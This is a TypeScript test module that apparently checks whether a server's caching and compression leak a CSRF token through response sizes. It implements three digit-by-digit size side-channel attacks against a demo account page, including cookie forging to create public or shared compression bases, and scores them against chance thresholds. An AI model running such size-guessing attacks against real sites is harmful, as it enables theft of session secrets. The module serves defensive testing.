/**
 * Attacks on a secret by the sizes of answers: who has text of its own coded together with a visitor's secret, and sees how many
 * bytes cross the link and reach the visitor, reads which guess of the next digit repeats the secret. SPEC section "What
 * sizes tell".
 */
import type { IncomingMessage, ServerResponse } from "node:http";
import { chanceFor } from "../demo-site/chance.ts";

/** Sizes that the attacker sees, of what crossed the link and of what reached the visitor; or digits that it read in both places. */
export interface Sizes {
  readonly link: number;
  readonly visitor: number;
}

type Fields = Readonly<Record<string, string>>;

/** One request to the edge before `serveAccounts`. */
export type Ask = (path: string, fields: Fields) => Promise<Sizes>;

/** Sums of the sizes that each guess of a digit gave, from 0 to 9. */
type OfGuesses = readonly Sizes[];

/** `known`: the digits that the attacker has read already. */
export type SizeAttack = (ask: Ask, secret: string, known: string) => Promise<OfGuesses>;

/** Of a fixed seed: 200 digits, in secrets of 10. */
export const SECRETS: readonly string[] = Array.from({ length: 20 }, (_, at) =>
  Array.from({ length: 10 }, (_, digit) => chanceFor("secrets", at, digit).between(0, 9)).join(""),
);
/** Enough to tell an attack, which reads most of their 30 digits, from guessing, which reads some 3. @internal */
export const FEW_SECRETS = SECRETS.slice(0, 3);
/** Of all 200 digits, where a tenth is what guessing gives. @internal */
export const MOST_RIGHT = 35;
/** Of those 30, read by chance; an attack reads more. @internal */
export const MOST_BY_CHANCE = 8;

const LIST = Array.from(
  { length: 60 },
  (_, i) => `<li><a href="/item/${(i * 7919) % 1000}">Item ${i}</a></li>`,
).join("\n");
const SURROUNDINGS = ["!~^", "{|}", "@`;"];
const GUESSES = Array.from({ length: 10 }, (_, guess) => guess);

/** @internal */
const accountPage = (secret: string, query: string): string =>
  `<!doctype html><title>Account</title><form><input type="hidden" name="csrf" value="t${secret}"></form>` +
  `<ul>${LIST}</ul><p>You searched for: ${query}</p>`;

/** The page of the secret that the path names, and what was searched for. @internal */
export const accountOf = (target: string): { readonly secret: string; readonly page: string } => {
  const asked = new URL(target, "http://shop");
  const secret = /\d*$/.exec(asked.pathname)?.[0] ?? "";
  return { secret, page: accountPage(secret, asked.searchParams.get("q") ?? "") };
};

/** A page without a secret is everybody's. */
export const serveAccounts = (request: IncomingMessage, response: ServerResponse): void => {
  const { secret, page } = accountOf(request.url ?? "");
  response.setHeader("Content-Type", "text/html");
  if (secret !== "") response.setHeader("Cache-Control", "private");
  response.end(page);
};

const sum = (sizes: OfGuesses): Sizes => ({
  link: sizes.reduce((total, { link }) => total + link, 0),
  visitor: sizes.reduce((total, { visitor }) => total + visitor, 0),
});

const pathOf = (secret: string, query: string): string => `/my${secret}?q=${encodeURIComponent(query)}`;

/** The visitor is made to ask for a page that repeats the guess. `fields`: of the visitor. */
export const byAddress =
  (fields: Fields): SizeAttack =>
  async (ask, secret, known) => {
    const seen: Sizes[] = [];
    for (const guess of GUESSES) {
      const sizes: Sizes[] = [];
      for (const after of SURROUNDINGS)
        sizes.push(
          await ask(pathOf(secret, `value="t${known}${guess}${after}`), { Cookie: cookieOf("v"), ...fields }),
        );
      seen.push(sum(sizes));
    }
    return seen;
  };

/** As many people as make a page public, or a common base of what their pages share. */
const FORGED = ["a", "b", "c"];
const cookieOf = (letter: string): string => `sid=${letter.repeat(32)}`;
/** Pages of other URLs that are offered as bases at once. */
const MOST_OFFERS = 4;

/** Each time another visitor, whose new session has nothing of its own to build on, with the same secret. */
const newcomer = (tries: number, fields: Fields): Fields => ({
  Cookie: `sid=${String(tries).padStart(32, "0")}`,
  ...fields,
});

/**
 * Whoever shows three cookies of its own making has its pages made public, each with a guess, and waits for a visitor. `fields`: of
 * the visitor. `rounds`: how often each guess is tried, each time with another number before it.
 */
export const byPublicBase = (fields: Fields, rounds = 1): SizeAttack => {
  let tries = 0;
  return async (ask, secret, known) => {
    const seen: Sizes[][] = GUESSES.map(() => []);
    for (let round = 0; round < rounds; round++) {
      const sizes: Sizes[] = [];
      // A page is a base until that many others came.
      for (let at = 0; at < GUESSES.length + MOST_OFFERS - 1; at++) {
        const query = `${++tries} value="t${known}${GUESSES[at] ?? ""}`;
        for (const letter of FORGED) await ask(pathOf("", query), { Cookie: cookieOf(letter), ...BY_ITSELF });
        sizes.push(await ask(pathOf(secret, ""), newcomer(tries, fields)));
      }
      for (const guess of GUESSES) seen[guess]?.push(...sizes.slice(guess, guess + MOST_OFFERS));
    }
    return seen.map(sum);
  };
};

/**
 * The three have pages of their own, which share a guess, so that a common base is made of it: for each guess in a section of the site
 * that has none. `made`: resolves when it is.
 * @internal
 */
export const byCommonBase = (fields: Fields, made: () => Promise<void>): SizeAttack => {
  let tries = 0;
  return async (ask, secret, known) => {
    const sizes: Sizes[] = [];
    for (const guess of GUESSES) {
      const section = sectionNamed(++tries);
      const own = chanceFor("own", tries);
      for (const letter of FORGED) {
        const query = `value="t${known}${guess}"><p>${own.hex(DEAR_CHARS)}`;
        await ask(`${section}${pathOf("", query).replace("?", `${letter}?`)}`, {
          Cookie: cookieOf(letter),
          ...BY_ITSELF,
        });
      }
      await made();
      sizes.push(await ask(`${section}${pathOf(secret, "")}`, newcomer(tries, fields)));
    }
    return sizes;
  };
};

const BY_ITSELF = { "Sec-Fetch-Site": "none" };
/** So much of a page's own makes its answer dear enough for a common base. */
const DEAR_CHARS = 2_000;

/** Without digits: a segment with one stands for any other. */
const sectionNamed = (number: number): string =>
  `/${[...String(number)].map((digit) => "abcdefghij"[Number(digit)]).join("")}`;

/** How many digits are read in each place by an attacker who knows all that come before; of several least sizes one by chance. */
export const digitsRead = async (
  ask: Ask,
  attack: SizeAttack,
  secrets: readonly string[] = SECRETS,
): Promise<Sizes> => {
  const chance = chanceFor("guesses");
  const right = { link: 0, visitor: 0 };
  for (const secret of secrets)
    for (const [at, digit] of [...secret].entries()) {
      const seen = await attack(ask, secret, secret.slice(0, at));
      for (const place of ["link", "visitor"] as const) {
        const least = Math.min(...seen.map((sizes) => sizes[place]));
        const [first = 0, ...rest] = GUESSES.filter((guess) => seen[guess]?.[place] === least);
        if (chance.pick([first, ...rest]) === Number(digit)) right[place]++;
      }
    }
  return right;
};
